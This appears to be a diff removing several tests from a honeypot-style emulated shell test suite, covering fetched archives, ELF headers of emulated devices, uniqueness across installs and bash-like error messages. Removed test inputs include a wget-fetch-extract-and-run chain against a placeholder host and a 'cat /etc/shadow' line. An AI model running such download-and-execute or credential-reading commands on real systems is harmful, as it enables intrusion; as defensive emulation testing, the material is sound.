@@ -4,7 +4,6 @@
 from __future__ import annotations
 
 import json
-from hashlib import sha256
 from pathlib import Path
 
 import pytest
@@ -19,10 +18,8 @@ from mead.shell import (
     Reply,
     Shell,
     ShellLimits,
-    ShellPersona,
     default_personas,
 )
-from mead.shell.machines import ARCHITECTURES
 
 CAPTURES = Path(__file__).parents[1] / "captures" / "shell"
 LINES = [json.loads(line) for line in (CAPTURES / "download-lines.jsonl").read_text().splitlines()]
@@ -301,21 +298,6 @@ def test_what_a_device_refuses_is_offered_all_the_same(line: str, output: bytes)
     assert len(followed) == (0 if "python" in line else 3)
 
 
-def test_an_archive_that_was_fetched_is_taken_apart_and_followed() -> None:
-    import io
-    import tarfile
-
-    packed = io.BytesIO()
-    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
-        entry = tarfile.TarInfo("d/run.sh")
-        entry.size, entry.mode = 27, 0o755
-        archive.addfile(entry, io.BytesIO(b"wget http://192.0.2.1/inner\n"[:27]))
-    shell = start()
-    shell.run(b"cd /tmp; wget http://192.0.2.1/a.tgz; tar xzf a.tgz; cd d; sh run.sh; ./run.sh")
-    reply = shell.deliver("http://192.0.2.1/a.tgz", packed.getvalue())
-    assert only(reply, FileWritten)[0].path == "/tmp/d/run.sh"
-
-
 def test_a_body_that_is_known_is_there_at_once() -> None:
     shell = start()
     shell.run(b"wget http://192.0.2.1/a -O /tmp/a")
@@ -394,51 +376,6 @@ def test_exit_leaves_one_shell_after_the_other() -> None:
     assert not shell.run(b"exit").closed
     assert shell.run(b"exit 3").closed
     assert shell.closed
-
-
-@pytest.mark.parametrize("persona", PERSONAS, ids=lambda persona: persona.name)
-def test_the_first_bytes_of_a_program_are_those_of_its_processor(persona: ShellPersona) -> None:
-    shell = start(persona.name, interactive=False)
-    header = shell.run(b"dd bs=52 count=1 if=/bin/echo 2>/dev/null || cat /bin/echo").output
-    wanted = ARCHITECTURES[persona.architecture]
-    assert header[:4] == b"\x7fELF"
-    assert int.from_bytes(header[18:20], "little" if wanted.little_endian else "big") == wanted.machine
-    whole = shell.run(b"cat /bin/busybox").output
-    assert shell.run(b"sha256sum /bin/busybox").output.split()[0].decode() == sha256(whole).hexdigest()
-    assert b"BusyBox v" in whole
-
-
-def test_two_installs_share_no_number() -> None:
-    asked = (
-        b"cat /proc/cpuinfo",
-        b"ifconfig eth0",
-        b"cat /etc/shadow",
-        b"ps",
-        b"free",
-        b"head -c 16 /dev/urandom",
-        b"uptime",
-    )
-    one, two = (
-        [shell.run(line).output for line in asked]
-        for shell in (Shell(default_personas(seed)[4], now=start().machine.now) for seed in (b"one", b"two"))
-    )
-    assert not [line for line, a, b in zip(asked, one, two, strict=True) if a == b]
-
-
-def test_the_server_speaks_as_bash_does() -> None:
-    shell = start("server-x86_64")
-    for line, output in (
-        (b"nosuch", b"-bash: nosuch: command not found\n"),
-        (b"./nosuch", b"-bash: ./nosuch: No such file or directory\n"),
-        (b"cd /nosuch", b"-bash: cd: /nosuch: No such file or directory\n"),
-        (b"cat nosuch", b"cat: nosuch: No such file or directory\n"),
-        (b"rm nosuch", b"rm: cannot remove 'nosuch': No such file or directory\n"),
-        (b"ls nosuch", b"ls: cannot access 'nosuch': No such file or directory\n"),
-        (b"> /proc/x", b"-bash: /proc/x: No such file or directory\n"),
-        (b"busybox NOPE", b"NOPE: applet not found\n"),
-        (b"whoami", b"root\n"),
-    ):
-        assert shell.run(line).output == output
 
 
 def test_commands_are_told_with_their_words_and_status() -> None:
